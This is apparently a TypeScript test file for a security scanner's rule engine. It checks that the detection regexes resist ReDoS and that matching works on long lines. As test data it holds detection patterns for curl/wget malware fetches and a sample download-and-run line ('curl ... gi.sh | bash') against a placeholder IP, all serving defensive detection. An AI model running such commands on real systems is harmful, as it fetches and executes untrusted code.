/**
 * No rule regex may backtrack super-linearly: every line of an image is attacker text,
 * and a regex that is quadratic in its input lets a few kilobytes stall a scan. Each
 * rule regex is therefore either proven linear by recheck (a ReDoS analyser, pure
 * JavaScript, nothing downloaded) with its automaton checker, which is deterministic,
 * or marked `flags: l` and run on the linear-time engine (RE2, linear-regex.ts). A regex
 * recheck cannot model (lookaround, back-references) or cannot decide in its time
 * budget is neither, and fails here: rewrite it, or mark it `l`. The windows RuleSet
 * reads long lines in (execWindowed) are a second defence this test does not count on.
 */
import { describe, expect, it } from 'vitest';
import { checkSync } from 'recheck';
import { RuleSet, execWindowed, RULE_WINDOW } from '../../src/rules/ruleset.js';
import { compileRuleRegex, isLinear, ruleFlags } from '../../src/rules/linear-regex.js';
import { parseRulePack } from '../../src/rules/loader.js';

/** Generous: the analyser decides the rule regexes in milliseconds on an idle machine. */
const ANALYSER_TIMEOUT_MS = 20_000;

interface RuleRegex {
  id: string;
  origin: string;
  regex: RegExp;
}

function ruleRegexes(rules: RuleSet): RuleRegex[] {
  const out: RuleRegex[] = [];
  for (const r of rules.all()) {
    const m = r.match;
    const add = (id: string, regex: RegExp) => out.push({ id, origin: r.origin, regex });
    if (m.kind === 'content') {
      add(r.id, m.regex);
      for (const a of m.all ?? []) add(`${r.id} (all)`, a);
    } else if (m.kind === 'path' && m.contains) add(r.id, m.contains);
    else if (m.kind === 'name' && m.regex) add(r.id, m.regex);
  }
  return out;
}

function verdict(regex: RegExp): string {
  const result = checkSync(regex.source, regex.flags, { checker: 'automaton', timeout: ANALYSER_TIMEOUT_MS });
  if (result.status === 'vulnerable') return `vulnerable, ${result.complexity.summary}, e.g. ${result.attack.pattern}`;
  if (result.status === 'unknown') return `not proven either way (${result.error.kind})`;
  return 'safe';
}

describe('rule regexes', () => {
  it('each is proven linear by the analyser or runs on the linear-time engine', async () => {
    const rules = await RuleSet.load();
    const offenders: string[] = [];
    for (const { id, origin, regex } of ruleRegexes(rules)) {
      if (isLinear(regex)) continue;
      const v = verdict(regex);
      if (v !== 'safe') offenders.push(`${id} (${origin}): ${v}; rewrite it or mark it flags: l`);
    }
    expect(offenders).toEqual([]);
  }, 900_000);

  it('the analyser finds the kinds of regexes it must, so the test above can fail', () => {
    expect(verdict(/^\s*Key(?:\s*=\s*|\s+)(?:.*\s)?\/tmp\//i)).toMatch(/^vulnerable/);
    expect(verdict(/\b(?:curl|wget)\b[^;&|]*\/kinsing\b/)).toMatch(/^vulnerable/);
    expect(verdict(/^(?!.*x).*y/)).toMatch(/^not proven/);
  });

  it('a regex marked l runs on RE2: nested repeats that backtrack exponentially answer at once', () => {
    const re = compileRuleRegex('^(?:a+)+$', 'l');
    expect(isLinear(re)).toBe(true);
    // On the backtracking engine this takes 2^40 steps; the test's timeout catches a hang.
    expect(re.test(`${'a'.repeat(40)}b`)).toBe(false);
    expect(re.exec('aaaa')?.[0]).toBe('aaaa');
    // Checks that recompile a rule regex (with m, say) pass its flags on and keep the engine.
    const multiline = compileRuleRegex(re.source, `${ruleFlags(re)}m`);
    expect(isLinear(multiline)).toBe(true);
    expect(multiline.test(`x\n${'a'.repeat(40)}b\naa`)).toBe(true);
  });

  it('the linear engine runs lookbehind, the i flag and groups like JavaScript does', () => {
    const lines = ['git fetch origin', 'fetch http://h/x | sh', 'FETCH http://h/x | sh', 'x=fetch', 'chattr -i /etc/a; chattr +i /etc/a'];
    for (const [source, flags] of [
      ['(?<!\\bgit\\s+)\\bfetch\\b[^|]*\\|\\s*(?<sh>sh)', 'i'],
      ['\\bchattr\\s+-i\\s.*$(?<!\\bchattr\\s+\\+i\\s.*)', ''],
    ] as const) {
      const js = new RegExp(source, flags);
      const linear = compileRuleRegex(source, `${flags}l`);
      for (const line of lines) {
        expect(linear.exec(line)?.[0], `${source} on ${line}`).toBe(js.exec(line)?.[0]);
        expect(linear.exec(line)?.index).toBe(js.exec(line)?.index);
        expect(linear.exec(line)?.groups?.sh).toBe(js.exec(line)?.groups?.sh);
      }
    }
  });

  it('a pack regex marked l that RE2 cannot run is refused at load, with its file and line', () => {
    const pack = (regex: string) => `rules:
  - id: test.linear
    category: persistence/cron
    severity: high
    message: m
    remediation: r
    match:
      content:
        scopes: [cron]
        flags: l
        regex: '${regex}'
`;
    expect(() => parseRulePack(pack('^(?!x)y'), 'l.yaml')).toThrow(/l\.yaml:11: .*linear-time engine/);
    expect(() => parseRulePack(pack('(a)\\1'), 'l.yaml')).toThrow(/l\.yaml:11: .*linear-time engine/);
    expect(isLinear((parseRulePack(pack('(?<!git )fetch'), 'l.yaml').rules[0]!.match as { regex: RegExp }).regex)).toBe(true);
  });

  it('a command in the middle of a long line lies whole in one window', async () => {
    const rules = await RuleSet.load();
    const regex = rules.get('command.download-and-run').match;
    if (regex.kind !== 'content') throw new Error('not a content rule');
    const command = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
    for (const before of [0, RULE_WINDOW / 2 - 10, RULE_WINDOW - 10, 3 * RULE_WINDOW + 7, 1 << 20]) {
      const line = `${'x'.repeat(before)} ${command} ${'y'.repeat(1 << 20)}`;
      expect(execWindowed(regex.regex, line)?.[0]).toContain('| bash');
    }
  });
});
